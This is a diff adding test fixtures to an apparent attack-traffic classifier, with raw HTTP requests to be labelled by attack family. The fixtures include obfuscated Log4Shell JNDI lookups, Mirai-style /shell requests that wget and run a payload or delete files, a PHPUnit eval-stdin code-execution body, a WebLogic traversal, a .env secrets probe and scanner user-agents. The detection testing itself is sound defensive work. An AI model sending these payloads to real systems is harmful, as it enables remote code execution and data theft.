@@ -247,3 +247,55 @@ NMAP_PROBES = {
 def test_nmap_only_by_its_own_probes(tmp_path):
     got = classify_many(tmp_path, {k: v[0] for k, v in NMAP_PROBES.items()})
     assert {k: f for k, (_, f) in got.items()} == {k: v[1] for k, v in NMAP_PROBES.items()}
+
+
+# What the raw bytes hide, the normalised fields show (http_log4j, http_target...).
+OBFUSCATED = {
+    "l4j-lower": (b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: ${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}\r\n\r\n",
+                  "log4shell"),
+    "l4j-default": (b"GET / HTTP/1.1\r\nHost: h\r\nX-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.1/a}\r\n\r\n",
+                    "log4shell"),
+    "l4j-env": (b"GET / HTTP/1.1\r\nHost: h\r\nReferer: ${${env:NaN:-j}ndi${env:NaN:-:}ldap://192.0.2.1/a}\r\n\r\n",
+                "log4shell"),
+    "l4j-urlencoded": (b"GET /?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D HTTP/1.1\r\nHost: h\r\n\r\n",
+                       "log4shell"),
+    # ${jndi:ldap://192.0.2.1/a} as the password of Basic auth
+    "l4j-basic": (b"GET / HTTP/1.1\r\nHost: h\r\nAuthorization: Basic YWRtaW46JHtqbmRpOmxkYXA6Ly8xOTIuMC4yLjEvYX0=\r\n\r\n",
+                  "log4shell"),
+    "l4j-method": (b"${jndi:ldap://192.0.2.1/a} / HTTP/1.1\r\nHost: h\r\n\r\n", "log4shell"),
+    "jaws-killall": (b"GET /shell?killall+-9+arm;cd+/tmp;wget+http://192.0.2.1/x;sh+x HTTP/1.1\r\n"
+                     b"User-Agent: Hello, world\r\n\r\n", "mirai"),
+    "jaws-percent": (b"GET /shell?cd%20/tmp;rm%20-rf%20*;wget%20http://192.0.2.1/a HTTP/1.1\r\n\r\n", "mirai"),
+    "jaws-encoded": (b"GET /sh%65ll?%63d+/tmp;%77get+http://192.0.2.1/a HTTP/1.1\r\n\r\n", "mirai"),
+    "phpunit-prefix": (b"POST /laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n"
+                       b"Host: h\r\n\r\n<?php system('id');", "phpunit"),
+    "weblogic-double": (b"GET /console/images/%252E%252E%252Fconsole.portal HTTP/1.1\r\nHost: h\r\n\r\n",
+                        "weblogic"),
+    "env-prefix": (b"GET /api/.env HTTP/1.1\r\nHost: h\r\n\r\n", "secrets"),
+}
+
+
+def test_obfuscated_requests_get_their_family(tmp_path):
+    got = classify_many(tmp_path, {k: v[0] for k, v in OBFUSCATED.items()})
+    assert {k: f for k, (_, f) in got.items()} == {k: v[1] for k, v in OBFUSCATED.items()}
+
+
+CRS = "/usr/share/modsecurity-crs/rules/scanners-user-agents.data"
+
+# Tools only the Core Rule Set's lists name (no shipped rule does).
+CRS_NAMED = {
+    "wpscan": (b"GET /wp-login.php HTTP/1.1\r\nHost: h\r\nUser-Agent: WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)\r\n\r\n", "wpscan"),
+    "commix": (b"GET /?addr=127.0.0.1 HTTP/1.1\r\nHost: h\r\nUser-Agent: commix/v3.7-stable (https://commixproject.com)\r\n\r\n", "commix"),
+    "hydra": (b"GET /admin HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/4.0 (Hydra)\r\n\r\n", "hydra"),
+    "ahrefs": (b"GET /page HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)\r\n\r\n", "spider"),
+    "acunetix": (b"GET / HTTP/1.1\r\nHost: h\r\nAcunetix-Product: WVS/12.0\r\n\r\n", "acunetix"),
+    "nessus": (b"GET /nessus_is_probing_you_ HTTP/1.1\r\nHost: h\r\n\r\n", "nessus"),
+    "doubled-ua": (b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: User-Agent: python-requests/2.31\r\n\r\n", ""),
+}
+
+
+def test_the_core_rule_set_lists_name_more_tools(tmp_path):
+    assert os.path.exists(CRS), "modsecurity-crs is not installed: scripts/deps installs it"
+    got = classify_many(tmp_path, {k: v[0] for k, v in CRS_NAMED.items()})
+    assert {k: f for k, (_, f) in got.items()} == {k: v[1] for k, v in CRS_NAMED.items()}
+    assert any(r.startswith("crs_ua_") for r in got["doubled-ua"][0]), got["doubled-ua"]
